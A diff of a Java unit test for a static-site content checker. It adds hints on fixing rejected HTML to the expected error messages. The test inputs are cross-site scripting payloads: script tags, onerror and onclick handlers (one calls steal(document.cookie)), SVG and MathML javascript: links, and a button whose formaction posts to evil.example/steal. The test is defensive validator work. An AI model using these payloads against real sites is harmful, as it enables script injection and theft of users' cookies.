@@ -24,30 +24,37 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
  * and leaves the previously built site exactly as it was.
  */
 class ContentChecksTest extends BreakableSite {
+    private static final String CODE = ": remove it; content cannot run code (a page's script is a file of assets/js/ that a template adds: see the README's \"For designers\")";
+    private static final String STYLE = ": remove it; content cannot restyle the site (style sheets are files of assets/css/: see the README's \"For designers\")";
+    private static final String EMBEDDED = ": link to what it shows instead, as [what it is](https://…)";
+    private static final String FORM = ": content cannot hold a form; link to the page that has it instead";
+    private static final String DRAWING = ": save the drawing as a file in content/images/ (name.svg) and show it as ![what it shows](/images/name.svg): see the README's \"Images\"";
+    private static final String OTHER = ": write it in Markdown, or with the HTML the README lists under \"Add an article\" (text markup such as <kbd> and <abbr>, lists, tables, <details>, <figure>, <div>, <span>)";
+
     private static final String ABOUT = "content/en/about.md";
 
     @Test
     void scriptElementIsRejected() throws IOException {
         append(ABOUT, "<script>alert(1)</script>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<script>") + ": unsafe HTML: <script> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<script>") + ": unsafe HTML: <script> element is not allowed in content" + CODE);
     }
 
     @Test
     void iframeElementIsRejected() throws IOException {
         append(ABOUT, "Watch this: <iframe src=\"https://video.example/embed/1\"></iframe>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<iframe") + ": unsafe HTML: <iframe> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<iframe") + ": unsafe HTML: <iframe> element is not allowed in content" + EMBEDDED);
     }
 
     @Test
     void objectElementIsRejected() throws IOException {
         append(ABOUT, "<object data=\"/movie.swf\" type=\"application/x-shockwave-flash\"></object>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<object") + ": unsafe HTML: <object> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<object") + ": unsafe HTML: <object> element is not allowed in content" + EMBEDDED);
     }
 
     @Test
     void eventHandlerAttributeIsRejected() throws IOException {
         append(ABOUT, "Go <a href=\"/en/\" onclick=\"steal(document.cookie)\">home</a>.");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "onclick=") + ": unsafe HTML: onclick attribute on <a> is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "onclick=") + ": unsafe HTML: onclick attribute on <a> is not allowed in content" + CODE);
     }
 
     @Test
@@ -89,13 +96,13 @@ class ContentChecksTest extends BreakableSite {
     @Test
     void imageWithErrorHandlerIsRejected() throws IOException {
         append(ABOUT, "A picture: <img src=x onerror=alert(1) alt=\"\">");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "onerror=") + ": unsafe HTML: onerror attribute on <img> is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "onerror=") + ": unsafe HTML: onerror attribute on <img> is not allowed in content" + CODE);
     }
 
     @Test
     void styleElementIsRejected() throws IOException {
         append(ABOUT, "<style>body { display: none }</style>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<style>") + ": unsafe HTML: <style> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<style>") + ": unsafe HTML: <style> element is not allowed in content" + STYLE);
     }
 
     @Test
@@ -107,25 +114,25 @@ class ContentChecksTest extends BreakableSite {
     @Test
     void svgThatAnimatesALinkIntoScriptIsRejected() throws IOException {
         append(ABOUT, "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text x=\"20\" y=\"20\">Click</text></a></svg>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<svg>") + ": unsafe HTML: <svg> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<svg>") + ": unsafe HTML: <svg> element is not allowed in content" + DRAWING);
     }
 
     @Test
     void mathMlIsRejected() throws IOException {
         append(ABOUT, "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">CLICK<mtext>x</mtext></maction></math>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<math>") + ": unsafe HTML: <math> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<math>") + ": unsafe HTML: <math> element is not allowed in content" + OTHER);
     }
 
     @Test
     void aButtonThatSubmitsElsewhereIsRejected() throws IOException {
         append(ABOUT, "<button formaction=\"https://evil.example/steal\">Continue</button>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<button") + ": unsafe HTML: <button> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<button") + ": unsafe HTML: <button> element is not allowed in content" + FORM);
     }
 
     @Test
     void anAttributeAddedWithMarkdownAttributesIsCheckedToo() throws IOException {
         append(ABOUT, "## Read this {#read onmouseover=alert(1)}");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "onmouseover") + ": unsafe HTML: onmouseover attribute on <h2> is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "onmouseover") + ": unsafe HTML: onmouseover attribute on <h2> is not allowed in content" + CODE);
     }
 
     @Test
@@ -256,7 +263,7 @@ class ContentChecksTest extends BreakableSite {
         Files.move(good.site(), target.resolve(".site-previous"));
         Files.createDirectories(target.resolve(".site-build-123"));
         append(ABOUT, "<script>alert(1)</script>");
-        assertFails(ABOUT + ":" + lineOf(ABOUT, "<script>") + ": unsafe HTML: <script> element is not allowed in content");
+        assertFails(ABOUT + ":" + lineOf(ABOUT, "<script>") + ": unsafe HTML: <script> element is not allowed in content" + CODE);
     }
 
     @Test
